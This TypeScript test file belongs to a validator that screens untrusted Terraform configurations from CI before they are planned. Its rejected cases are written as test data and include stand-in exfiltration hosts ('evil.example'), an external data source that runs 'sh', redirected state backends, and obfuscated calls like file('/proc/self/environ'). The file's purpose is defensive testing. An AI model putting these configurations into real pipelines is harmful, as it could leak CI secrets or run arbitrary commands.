import { unsafeConfiguration } from '../../../../commands/ci/untrusted/unsafe-configuration';
import type { EnvironmentSettings } from '../../../../settings';
import { endpoint, existingNetwork, resolved, settings } from '../../../support/settings';
import { synthesizeEnvironments } from '../../../support/synthesized';
import type { UntrustedConfiguration } from '../../../../commands/ci/untrusted/configuration';

const AWS = { source: 'hashicorp/aws', version: '6.27.0' };
const STATE = { bucket: 'states', region: 'us-east-1', encrypt: true, use_lockfile: true };
const READ_STATE = { backend: 's3', config: { ...STATE, key: 'e-network.tfstate' } };
const base = {
  terraform: { backend: { s3: { ...STATE, key: 'e-x.tfstate' } }, required_providers: { aws: AWS } },
  provider: { aws: [{ region: 'us-east-1' }, { region: 'us-east-1', alias: 'untagged' }] },
  data: { terraform_remote_state: { network: READ_STATE }, aws_caller_identity: { caller: {} } },
  resource: {
    aws_s3_object: { model: { bucket: 'b', key: 'k', source: 'assets/a/model.tar.gz' } },
    aws_iam_role: { role: { name: 'r', provisioner: [{ 'local-exec': { command: 'known' } }] } },
    terraform_data: { known: { input: '${file("known.txt")}' } },
  },
  check: { one: { assert: [{ condition: '${true}', error_message: 'no' }] } },
  locals: { a: '${1}' },
};
const reasons = (more: UntrustedConfiguration, known: readonly UntrustedConfiguration[] = [base]) =>
  unsafeConfiguration({ ...base, ...more }, known);
const terraform = (more: object) => ({ terraform: { ...base.terraform, ...more } });
const provider = (aws: unknown) => ({ provider: { aws } });
const resource = (type: string, value: unknown) => ({ resource: { ...base.resource, [type]: { n: value } } });
const data = (type: string, value: unknown) => ({ data: { ...base.data, [type]: { n: value } } });
const remote = (backend: string, config: object) => data('terraform_remote_state', { backend, config });

test.each<[string, UntrustedConfiguration]>([
  ['the base itself', {}],
  ['another version of a provider', terraform({ required_providers: { aws: { ...AWS, version: '6.28.0' } } })],
  ['another state in the same bucket', terraform({ backend: { s3: { ...STATE, key: 'f-x.tfstate' } } })],
  [
    'another region, account and tags',
    provider([{ region: 'eu-west-1', allowed_account_ids: ['1'], default_tags: [] }]),
  ],
  ['a resource and a data source of AWS', { ...resource('aws_vpc', { cidr_block: '10.0.0.0/16' }) }],
  ['a data source of AWS', data('aws_vpc', { id: 'vpc-1', provider: 'aws.untagged' })],
  ['an output of another network', remote('s3', { ...STATE, key: 'f-network.tfstate' })],
  ['a new artifact', resource('aws_s3_object', { source: 'assets/b/model.tar.gz' })],
  ['words about files', { locals: { a: 'a file (of ${1})', b: '${local.filename}', c: 'file(1)' } }],
  ['moved blocks', { moved: [{ from: 'a.b', to: 'a.c' }] }],
])('%s can be planned', (_, more) => {
  expect(reasons(more)).toEqual([]);
});

test.each<[string, UntrustedConfiguration]>([
  ['a block of the kind module', { module: { m: { source: './m' } } }],
  ['a block of the kind ephemeral', { ephemeral: {} }],
  ['a block of the kind action', { action: {} }],
  ['the setting terraform.encryption', terraform({ encryption: { key_provider: { external: {} } } })],
  ['the setting terraform.provider_meta', terraform({ provider_meta: {} })],
  ['the provider aws from evil/aws', terraform({ required_providers: { aws: { source: 'evil/aws' } } })],
  ['the provider x from evil/x', terraform({ required_providers: { aws: AWS, x: { source: 'evil/x' } } })],
  ['the provider null from hashicorp/null', terraform({ required_providers: { aws: AWS, null: '3.2.0' } })],
  ['the provider http', data('http', { url: 'https://evil.example' })],
  ['the provider external', data('external', { program: ['sh'] })],
  ['the provider local', resource('local_file', { filename: 'assets/x' })],
  ['the provider evil', resource('aws_vpc', { provider: 'evil.x' })],
  ['the provider evil', { provider: { ...base.provider, evil: [{}] } }],
  ['the provider http', { check: { one: { data: { http: { n: { url: 'https://evil.example' } } } } } }],
  ['another endpoints of the provider aws', provider([{ endpoints: [{ s3: 'https://evil.example' }] }])],
  ['another profile of the provider aws', provider({ profile: 'admin' })],
  ['another assume_role of the provider aws', provider([[{ assume_role: [{ role_arn: 'arn' }] }]])],
  ['the data source aws_lambda_invocation, which runs or calls a program', data('aws_lambda_invocation', {})],
  ['a state in another place than those of the base', terraform({ backend: { s3: { ...STATE, bucket: 'evil' } } })],
  [
    'a state in another place than those of the base',
    terraform({ backend: { s3: { ...STATE, endpoints: { s3: 'https://evil.example' } } } }),
  ],
  ['a state in another place than those of the base', terraform({ backend: { http: { address: 'https://evil' } } })],
  [
    'a state in another place than those of the base',
    terraform({ backend: undefined, cloud: { hostname: 'evil.example', organization: 'o' } }),
  ],
  ['another place that states are read from', remote('http', { address: 'https://evil/${local.a}' })],
  ['another place that states are read from', remote('s3', { ...STATE, role_arn: 'arn' })],
  ['a provisioner in aws_vpc.n, which runs a program when it is applied', resource('aws_vpc', { provisioner: [] })],
  ['a provisioner in aws_vpc.n, which runs a program when it is applied', resource('aws_vpc', { connection: {} })],
  ["a file in aws_s3_object.n that is not among the stack's assets", resource('aws_s3_object', { source: '/etc/x' })],
  [
    "a file in aws_s3_object.n that is not among the stack's assets",
    resource('aws_s3_object', { source: 'assets/../../x' }),
  ],
  [
    "a file in aws_lambda_function.n that is not among the stack's assets",
    resource('aws_lambda_function', { filename: '${local.a}' }),
  ],
  ['resource blocks in another form than cdktf writes', { resource: [{ null_resource: { n: {} } }] }],
  ['resource blocks in another form than cdktf writes', resource('aws_vpc', [{ provisioner: [] }])],
  ['data blocks in another form than cdktf writes', { data: { external: [{ n: {} }] } }],
  ['data blocks in another form than cdktf writes', { check: { one: { data: [{ http: {} }] } } }],
  ['check blocks in another form than cdktf writes', { check: { one: [{ data: { http: {} } }] } }],
  ['provider blocks in another form than cdktf writes', { provider: [{ aws: { profile: 'admin' } }] }],
  ['terraform blocks in another form than cdktf writes', { terraform: [base.terraform] }],
  ['required_providers blocks in another form than cdktf writes', terraform({ required_providers: [{}] })],
  ['backend blocks in another form than cdktf writes', terraform({ backend: [{ http: {} }] })],
])('%s: not planned', (reason, more) => {
  expect(reasons(more)).toContain(reason);
});

test.each([
  '${file("/proc/self/environ")}',
  '${ templatefile ( "x", {})}',
  '${filebase64/* */("x")}',
  '${core::fileset("/", "*")}',
  '%{ if true }${upper(filemd5("x"))}%{ endif }',
  '${file # x\r( \u2028\n("x")}',
  `${'${file'}${'/**/'.repeat(2000)}("x")}`,
])('%s reads a file: not planned, wherever it stands', (text) => {
  const reason = ['a function that reads files where Terraform runs'];
  expect(reasons({ locals: { a: text } })).toEqual(reason);
  expect(reasons(resource('aws_vpc', { tags: { [text]: 'x' } }))).toEqual(reason);
  expect(reasons(resource('aws_vpc', { tags: [{ '//': text }] }))).toEqual(reason);
});

test('what the base has already is no reason, in whichever of its stacks', () => {
  const module = { module: { m: { source: './m' } } };
  const http = { ...terraform({ required_providers: { http: { source: 'hashicorp/http' } } }), ...data('http', {}) };
  const all = [
    { ...base, ...module },
    { ...base, ...http },
  ];
  expect(reasons(module, all)).toEqual([]);
  expect(reasons(data('http', {}), all)).toEqual([]);
  expect(reasons({ module: { m: { source: './other' } } }, all)).not.toEqual([]);
});

test('whatever the settings switch on can be planned, next to an environment that has next to nothing', () => {
  const backend = { kind: 's3', bucket: 'states', region: 'eu-west-1' } as const;
  const small = Object.values(synthesizeEnvironments(resolved(settings({ backend })))).map((one) => ({ ...one }));
  const plenty = settings({
    backend: { ...backend, keyPrefix: 'more' },
    region: 'us-east-1',
    accountId: '123456789012',
    tags: { owner: 'ml' },
    protect: true,
    probe: true,
    iam: { permissionsBoundaryArn: 'arn:aws:iam::123456789012:policy/boundary' },
    network: existingNetwork({ clients: { cidrBlocks: ['10.0.0.0/16'] } }),
    endpoints: {
      other: endpoint({
        instanceCount: 2,
        kmsKeyArn: 'arn:aws:kms:us-east-1:123456789012:key/12345678-1234-1234-1234-123456789012',
        scaling: { min: 2, max: 4, target: { concurrentRequests: 4 } },
      }),
    },
  });
  const head = synthesizeEnvironments(resolved(asIn('us-east-1', plenty), 'more'));
  expect(Object.keys(head)).toEqual(['more-network', 'more-other', 'more-probe']);
  expect(
    Object.entries(head).flatMap(([name, one]) =>
      unsafeConfiguration({ ...one }, small).map((why) => `${name}: ${why}`),
    ),
  ).toEqual([]);
});

const asIn = (region: string, all: EnvironmentSettings): EnvironmentSettings =>
  JSON.parse(JSON.stringify(all).replaceAll('eu-west-1', region)) as EnvironmentSettings;
